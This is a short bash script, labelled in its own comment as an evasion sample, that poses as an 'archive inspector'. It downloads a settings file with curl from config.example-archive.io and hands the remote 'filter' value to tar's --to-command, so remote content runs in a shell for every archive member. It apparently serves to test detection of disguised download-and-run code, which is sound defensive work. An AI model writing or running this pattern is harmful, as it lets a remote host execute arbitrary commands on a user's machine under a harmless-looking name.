#!/usr/bin/env bash
# Evasion: download and run code. An "archive inspector" reads the filter
# program to apply to each member from a downloaded settings file and hands
# it to tar as --to-command: tar runs it through a shell for every file.
set -eu
settings=$(curl -fsSL https://config.example-archive.io/inspector.conf)
filter=$(printf '%s\n' "$settings" | sed -n 's/^filter=//p')
archive="${1:-release.tar.gz}"
tar -xzf "$archive" --to-command="$filter"
echo "inspected $archive"
